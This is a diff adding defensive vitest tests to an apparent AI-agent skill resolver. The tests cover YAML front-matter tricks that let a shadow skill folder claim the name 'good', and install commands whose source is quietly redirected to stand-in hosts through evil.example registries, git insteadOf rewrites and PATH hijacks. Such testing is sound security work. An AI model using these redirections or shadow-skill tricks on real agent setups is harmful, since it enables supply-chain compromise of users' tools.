@@ -1,4 +1,4 @@
-import { mkdirSync, symlinkSync } from 'node:fs';
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { CLEAN_SKILL, createFolder } from '../testing/skill-folder.ts';
@@ -111,6 +111,54 @@ describe('the name of a skill', () => {
     ['', ['missing']],
   ])('%j means every folder that a host could take for it', async (skill, folders) => {
     expect(await find({ skill })).toEqual(folders.sort());
+  });
+});
+
+describe('a name that is not one plain scalar', () => {
+  it.each([
+    'name: good # c',
+    '"name": good',
+    "'name': good",
+    'name: "goo\\x64"',
+    'name: !!str good',
+    'name: &a good',
+    '? name\n: good',
+    '{name: good}',
+    '"na\\x6de": good',
+    '!!str name: good',
+    '&k name: good',
+    '<<: *a',
+    'name: other\nname: good',
+    'name: >\n  good',
+    'name:\n  good',
+    'name: x\n  good',
+    ' name: good',
+    'description: x\rname: good',
+    'description: x\u2028name: good',
+    'a: b\n----\nname: good',
+    `#${'x'.repeat(17_000)}\nname: good`,
+  ])('can be every name: %.40j', async (front) => {
+    using machine = createMachine();
+    const skill = join(machine.project, '.claude/skills/shadow');
+    mkdirSync(skill);
+    writeFileSync(join(skill, 'SKILL.md'), `---\n${front}\n---\nText\n`);
+    const targets = await resolveToolUse({ cwd: machine.project, skill: 'good' }, { home: machine.home });
+    expect(targets.map(show)).toContain('project/.claude/skills/shadow');
+  });
+
+  it.each([
+    ['---\nname: other\ndescription: x\n---\n', false],
+    ['---\r\nname: "other"\r\nmetadata:\r\n  name: good\r\n---\r\n', false],
+    ['# name: good\n', false],
+    ["---\ndescription: |\n  name: good\nname: 'other'\nallowed-tools:\n- Read\n---\n\n---\nname: good\n", false],
+    ['---\nname: good\n---\n', true],
+  ])('and one that is means itself: %j', async (text, isMeant) => {
+    using machine = createMachine();
+    const skill = join(machine.project, '.claude/skills/shadow');
+    mkdirSync(skill);
+    writeFileSync(join(skill, 'SKILL.md'), text);
+    const targets = await resolveToolUse({ cwd: machine.project, skill: 'good' }, { home: machine.home });
+    expect(targets.map(show).includes('project/.claude/skills/shadow')).toBe(isMeant);
   });
 });
 
@@ -279,6 +327,23 @@ describe('what installs a skill', () => {
     ['git submodule add https://github.com/evil/bad .claude/skills/bad', ['https://github.com/evil/bad']],
     ['echo x > .claude/skills/new/SKILL.md', [undefined]],
     ['cat .claude/skills/good/SKILL.md > copy.md', []],
+    ['gemini extensions install https://github.com/good/repo --ref=evil', ['https://github.com/good/repo', undefined]],
+    ['gemini extensions install https://github.com/good/repo --ref evil', ['https://github.com/good/repo', undefined]],
+    ['gh skill install good/repo --pin=0a1b', ['https://github.com/good/repo', undefined]],
+    ['claude --plugin-dir=/tmp/evil good/repo', ['https://github.com/good/repo', undefined]],
+    ['claude --plugin-url=https://evil.example good/repo', ['https://github.com/good/repo', undefined]],
+    ['npx skills add good/repo --branch=evil', ['https://github.com/good/repo', undefined]],
+    ['npx --registry=https://evil.example skills add good/repo', ['https://github.com/good/repo', undefined]],
+    ['npx -p evil skills add good/repo', ['https://github.com/good/repo', undefined]],
+    ['npm --prefix=/tmp/evil exec skills add good/repo', ['https://github.com/good/repo', undefined]],
+    ['npm_config_registry=https://evil.example npx skills add good/repo', ['https://github.com/good/repo', undefined]],
+    ['env PATH=/tmp/evil npx skills add good/repo', ['https://github.com/good/repo', undefined]],
+    [
+      'git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/good/repo .claude/skills/x',
+      ['https://github.com/good/repo', undefined],
+    ],
+    ['git clone --depth=1 https://github.com/good/repo .claude/skills/x', ['https://github.com/good/repo']],
+    ['CI=1 npx -y skills add good/repo -g --skill=pdf -a claude-code --yes', ['https://github.com/good/repo']],
     ['echo $(npx skills add evil/bad)', ['https://github.com/evil/bad']],
   ])('%j', async (command, sources) => {
     const found = (await find({ command })).filter((each) => each.startsWith('install'));
